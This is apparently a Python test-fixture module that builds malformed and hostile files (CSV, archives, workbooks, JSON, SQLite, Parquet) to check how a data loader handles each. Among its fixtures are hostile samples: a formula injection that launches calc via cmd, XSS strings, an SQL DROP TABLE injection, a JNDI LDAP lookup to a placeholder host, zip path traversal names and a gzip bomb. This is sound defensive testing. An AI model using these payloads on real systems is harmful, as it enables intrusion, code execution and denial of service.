"""Further files as they should not be, each made here, and what becomes of each; personal values planted in
odd places of some."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import sqlite3
import struct
import tarfile
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pyarrow.parquet.encryption as pe
import xlsxwriter

HEADER, ROW = "id,made,name\n", "{},2026-01-01,a\n"
Content = bytes | Callable[[Path], bytes]
Becomes = int | str  # rows that land, or words of the reason why not


def csv(*rows: str, header: str = HEADER, encoding: str = "utf-8") -> bytes:
    return (header + "".join(f"{row}\n" for row in rows)).encode(encoding)


def parquet(columns: dict[str, pa.Array], **options) -> bytes:
    stream = io.BytesIO()
    pq.write_table(pa.table(columns), stream, **options)
    return stream.getvalue()


def good(**more: pa.Array) -> dict[str, pa.Array]:
    return {"id": pa.array(["1"]), "made": pa.array(["2026-01-01"]), "name": pa.array(["a"])} | more


def encrypted_parquet(folder: Path) -> bytes:
    class Client(pe.KmsClient):
        def __init__(self, _):
            super().__init__()

        def wrap_key(self, key: bytes, name: str) -> bytes:
            return key

        def unwrap_key(self, key: bytes, name: str) -> bytes:
            return key

    factory = pe.CryptoFactory(Client)
    settings = pe.EncryptionConfiguration(footer_key="f", column_keys={"c": ["id"]})
    sealed = factory.file_encryption_properties(pe.KmsConnectionConfig(), settings)
    path = folder / "sealed"
    pq.write_table(pa.table(good()), path, encryption_properties=sealed)
    return path.read_bytes()


def archive(kind: str, members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    if kind == "tar":
        with tarfile.open(fileobj=stream, mode="w") as made:
            for name, content in members.items():
                entry = tarfile.TarInfo(name)
                entry.size = len(content)
                made.addfile(entry, io.BytesIO(content))
    else:
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
            for name, content in members.items():
                packed.writestr(name, content)
    return stream.getvalue()


def workbook(fill: Callable[[xlsxwriter.Workbook], None], **options) -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True, **options}) as book:
        fill(book)
    return stream.getvalue()


def sheet(*rows: list, name: str = "a") -> Callable[[xlsxwriter.Workbook], None]:
    def fill(book: xlsxwriter.Workbook) -> None:
        made = book.add_worksheet(name)
        for at, row in enumerate([["id", "made", "name"], *rows]):
            made.write_row(at, 0, row)

    return fill


def simple(*rows: list, **options) -> bytes:
    return workbook(sheet(*(rows or (["1", "2026-01-01", "a"],))), **options)


def repacked(content: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    change(parts)
    return archive("zip", parts)


def macros(parts: dict[str, bytes]) -> None:
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 600
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    mad = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(kind, mad)


def slipping(parts: dict[str, bytes]) -> None:
    parts["../../../../tmp/slipped.txt"] = b"x"


def no_types(parts: dict[str, bytes]) -> None:
    parts["[Content_Types].xml"] = b"<Types/>"


def same_text(parts: dict[str, bytes]) -> None:
    """One text of 1 MiB that ten thousand cells share."""
    shared = parts["xl/sharedStrings.xml"].replace(b"<t>a</t>", b"<t>" + b"x" * (1 << 20) + b"</t>")
    at = shared[: shared.index(b"x" * 100)].count(b"<si>") - 1
    row = (
        '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>{0}</t></is></c><c r="B{0}" t="s"><v>{1}</v></c></row>'
    )
    rows = "".join(row.format(n, at) for n in range(3, 10_000))
    made = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = made.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
    parts["xl/sharedStrings.xml"] = shared


def no_such_text(parts: dict[str, bytes]) -> None:
    made = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = made.replace(b"<v>0</v>", b"<v>99999999</v>")


def hidden(book: xlsxwriter.Workbook) -> None:
    sheet(["1", "2026-01-01", "a"], name="open")(book)
    book.add_worksheet("shut").hide()
    book.add_worksheet("very").very_hidden()
    book.get_worksheet_by_name("shut").write_row(0, 0, ["id", "made", "name"])


def in_1904(book: xlsxwriter.Workbook) -> None:
    made = book.add_worksheet()
    made.write_row(0, 0, ["id", "made", "name"])
    made.write(1, 0, "1")
    made.write_number(1, 1, 44_561, book.add_format({"num_format": "yyyy-mm-dd"}))


def errors(book: xlsxwriter.Workbook) -> None:
    made = book.add_worksheet()
    made.write_row(0, 0, ["id", "made", "name"])
    made.write_row(1, 0, ["1", "2026-01-01"])
    made.write_formula(1, 2, "=1/0", value="#DIV/0!")
    made.write_row(2, 0, ["2", "2026-01-01"])
    made.write_formula(2, 2, '=WEBSERVICE("http://127.0.0.1/")', value="=cmd|' /C calc'!A0")


def database(script: str) -> Callable[[Path], bytes]:
    def made(folder: Path) -> bytes:
        path = folder / "made.db"
        path.unlink(missing_ok=True)
        with sqlite3.connect(path) as lite:
            lite.executescript(script)
        lite.close()
        return path.read_bytes()

    return made


def resized(pages: int) -> Callable[[Path], bytes]:
    """A database whose header states another number of pages."""

    def made(folder: Path) -> bytes:
        whole = bytearray(database(f"{THINGS} INSERT INTO things VALUES (1, '2026-01-01', 'a');")(folder))
        whole[28:32] = struct.pack(">I", pages)
        return bytes(whole)

    return made


THINGS = "CREATE TABLE things (id, made, name);"
ONE = "INSERT INTO {} VALUES ('1', '2026-01-01', 'a');"
DEEP = "[" * 100_000
LINE = json.dumps({"id": "1", "made": "2026-01-01", "name": "a"}) + "\n"
MIXED = csv("1,2026-01-01,甲") + "2,2026-01-01,乙\n".encode("gb18030") + "3,2026-01-01,丙\n".encode()
PARTS = b"PK\x05\x06" + b"\0" * 18

FILES: dict[str, tuple[Content, Becomes]] = {
    # encodings
    "utf7.csv": (csv("1,2026-01-01,甲", encoding="utf-7"), 1),
    "mixed.csv": (MIXED, 2),
    "mark_inside.csv": (csv("1,2026-01-01,a", "\ufeff2,2026-01-01,b"), 2),
    "two_marks.csv": (b"\xef\xbb\xbf\xef\xbb\xbf" + csv("1,2026-01-01,a"), 1),
    "overlong.csv": (csv("1,2026-01-01,a") + b"2,2026-01-01,\xc0\xaf\n", 1),
    "surrogate.csv": (csv("1,2026-01-01,a") + b"2,2026-01-01,\xed\xa0\x80\n", 1),
    "ebcdic.csv": (csv("1,2026-01-01,a", encoding="cp037"), "does not decode as utf-8"),
    # delimited text
    "open_quote.csv": (csv('1,2026-01-01,"a', *("2,2026-01-01,b" for _ in range(50))), 50),
    "returns.csv": (csv("1,2026-01-01,a", "2,2026-01-01,b").replace(b"\n", b"\r"), 2),
    "separators.csv": (csv("1,2026-01-01,a\u2028b", "2,2026-01-01,a\x0bb\x0cc\x1cd\x85e"), 2),
    "no_more_than_a_header.tsv": (b"id\tmade\tname\tmore\n1\t2026-01-01\ta\n", 0),
    "width.csv": (csv("1,2026-01-01,a,b", header="id,made,name,ｎａｍｅ\n"), 1),
    "unseen.csv": (
        csv("1,2026-01-01,a,b", header="id,made,name,na\u200bme\n"),
        "occur twice in the header: name",
    ),
    "unseen_id.csv": (csv("1,2026-01-01,a", header="\u200bid,made\u200d,name\n"), 1),
    "formula.csv": (csv('=cmd|\' /C calc\'!A0,2026-01-01,"=HYPERLINK(""http://x"")"', "+1,2026-01-01,@a"), 2),
    "bidi.csv": (csv("\u202e1\u202c,2026-01-01,\u2066a\u2069", "1\u200f,2026-01-01,b"), 2),
    "script.csv": (csv("<script>alert(1)</script>,2026-01-01,<img src=x onerror=alert(1)>"), 1),
    "noncharacters.csv": (csv("1,2026-01-01,\ufffe\uffff\U0010ffff\ue000"), 1),
    "combining.csv": (csv("1,2026-01-01,a" + "\u0301" * 5_000), 1),
    "sql.csv": (
        csv("'; DROP TABLE silver.listing; --,2026-01-01,${jndi:ldap://x}", "{{7*7}},2026-01-01,b"),
        2,
    ),
    # packed
    "members.csv.gz": (gzip.compress(csv("1,2026-01-01,a")) + gzip.compress(b"2,2026-01-01,b\n"), 2),
    "empty_member.csv.gz": (gzip.compress(csv("1,2026-01-01,a")) + gzip.compress(b""), 1),
    "no_gzip.csv.gz": (csv("1,2026-01-01,a"), "is not a gzip file"),
    "nothing.csv.gz": (b"", 0),
    "bomb.csv.gz": (
        lambda _: gzip.compress(HEADER.encode() + b"0" * (1 << 30), 9),
        "is compressed by more than 200 to 1",
    ),
    "tar.csv.gz": (gzip.compress(archive("tar", {"a.csv": csv("1,2026-01-01,a")})), "(tar)"),
    "tar.csv": (archive("tar", {"a.csv": csv("1,2026-01-01,a")}), "is a tar archive"),
    "bzip.csv": (bz2.compress(csv("1,2026-01-01,a")), "bz"),
    "xz.csv": (lzma.compress(csv("1,2026-01-01,a")), "xz"),
    "gzip_inside.csv": (gzip.compress(csv("1,2026-01-01,a")), 1),
    "zip_inside.csv": (archive("zip", {"a.csv": csv("1,2026-01-01,a")}), 1),
    "nested.csv.zip": (
        archive("zip", {"a.csv": archive("zip", {"b.csv": csv("1,2026-01-01,a")})}),
        "archive",
    ),
    "nothing.csv.zip": (PARTS, "holds no file"),
    "windows.csv.zip": (archive("zip", {"..\\..\\a.csv": csv("1,2026-01-01,a")}), "outside"),
    "absolute.csv.zip": (archive("zip", {"/etc/a.csv": csv("1,2026-01-01,a")}), "outside"),
    "before.csv.zip": (
        b"#!/bin/sh\nexit\n" + archive("zip", {"a.csv": csv("1,2026-01-01,a")}),
        "is not a zip file",
    ),
    # workbooks
    "macros.xlsx": (repacked(simple(), macros), 1),
    "slip.xlsx": (repacked(simple(), slipping), 1),
    "no_types.xlsx": (repacked(simple(), no_types), 1),
    "same_text.xlsx": (repacked(simple(), same_text), "memory than one file may take"),
    "no_text.xlsx": (repacked(simple(), no_such_text), "is not a workbook"),
    "hidden.xlsx": (workbook(hidden), 1),
    "in_1904.xlsx": (workbook(in_1904, date_1904=True), 1),
    "errors.xlsx": (workbook(errors), 2),
    "sealed.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096, "it has a password"),
    "document.xlsx": (
        archive("zip", {"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}),
        "is not",
    ),
    "chart_only.xlsx": (workbook(lambda book: book.add_chartsheet() and None), "s"),
    # JSON
    "deep.jsonl": (LINE.encode() + DEEP.encode() + b"\n", 1),
    "deep.json": (DEEP.encode(), "nested"),
    "deep_value.jsonl": (b'{"id": "1", "made": "2026-01-01", "name": ' + b"[" * 400 + b"]" * 400 + b"}\n", 0),
    "lone.jsonl": (LINE.encode() + b'{"id": "2", "made": "2026-01-01", "name": "\\ud800"}\n', 1),
    "lone_key.jsonl": (b'{"id": "1", "made": "2026-01-01", "\\udfff": "a"}\n' + LINE.encode(), 1),
    "lone.json": (b'[{"id": "1", "made": "2026-01-01", "name": "\\udc00a"}]', 0),
    "commas.json": (b'[{"id": "1", "made": "2026-01-01"},]', "JSON"),
    "broken_line.jsonl": (LINE.encode() + b'{"id": \n' + LINE.replace('"1"', '"2"').encode(), 2),
    "nul_text.jsonl": (b'{"id": "1\\u0000", "made": "2026-01-01", "name": "a\\u0000b"}\n', 0),
    "one_object.json": (LINE.encode(), "no list at the document"),
    "comments.json": (b'// a\n[{"id": "1", "made": "2026-01-01"}]', "JSON"),
    "two_documents.json": ((LINE + LINE).encode(), "JSON"),
    "mapped.json": (b'{"1": {"id": "1", "made": "2026-01-01"}}', "list"),
    "records.jsonl": (b'{"id": {"a": [1]}, "made": ["2026-01-01"], "name": true}\n', 1),
    # databases
    "quoted.sqlite": (database('CREATE TABLE "a""b;--" (id, made, name);' + ONE.format('"a""b;--"')), 1),
    "no_rowid.sqlite": (
        database("CREATE TABLE t (id TEXT PRIMARY KEY, made, name) WITHOUT ROWID;" + ONE.format("t")),
        1,
    ),
    "strict.sqlite": (database("CREATE TABLE t (id TEXT, made TEXT, name ANY) STRICT;" + ONE.format("t")), 1),
    "virtual.sqlite": (
        database("CREATE VIRTUAL TABLE t USING fts5(id, made, name);" + ONE.format("t")),
        "table",
    ),
    "generated.sqlite": (
        database(
            "CREATE TABLE t (id, made, size AS (length(hex(zeroblob(400000000)))), name);"
            "INSERT INTO t (id, made, name) VALUES ('1', '2026-01-01', 'a');"
        ),
        1,
    ),
    "generated_id.sqlite": (
        database(
            "CREATE TABLE t (made, name, id AS (length(hex(zeroblob(400000000)))));"
            "INSERT INTO t (made, name) VALUES ('2026-01-01', 'a');"
        ),
        "lacks columns that are required: id",
    ),
    "pages.sqlite": (resized(4_000_000_000), "SQLite"),
    "few_pages.sqlite": (resized(1), "SQLite"),
    "utf16.sqlite": (database(f"PRAGMA encoding = 'UTF-16le'; {THINGS}" + ONE.format("things")), 1),
    "no_columns.sqlite": (database("CREATE TABLE t (x);"), "lacks columns"),
    # Parquet
    "sealed.parquet": (encrypted_parquet, "is encrypted"),
    "lists.parquet": (parquet(good(name=pa.array([[[["a"], None]]]))), 1),
    "wide_number.parquet": (parquet(good(name=pa.array([Decimal("1" * 60)], pa.decimal256(60, 0)))), 1),
    "far_ns.parquet": (parquet(good(made=pa.array([2**63 - 1], pa.timestamp("ns")))), 1),
    "far_us.parquet": (parquet(good(made=pa.array([2**63 - 1], pa.timestamp("us", "UTC")))), 1),
    "words.parquet": (parquet(good(name=pa.array(["a"]).dictionary_encode())), 1),
    "duration.parquet": (parquet(good(name=pa.array([5], pa.duration("s")))), "cannot be read as text"),
    "map.parquet": (parquet(good(name=pa.array([[("k", "v")]], pa.map_(pa.string(), pa.string())))), 1),
    "photo.parquet": (parquet(good(photo=pa.array([b"\xff"]))), 1),
    "no_columns.parquet": (parquet({}), 0),
    "nothing.parquet": (b"", 0),
    "nul.parquet": (parquet(good(name=pa.array(["a\0b"]))), 0),
    "nul.sqlite": (database(f"{THINGS} INSERT INTO things VALUES ('1', '2026-01-01', 'a' || char(0));"), 0),
    "marks_only.parquet": (b"PAR1PAR1", "Parquet"),
}
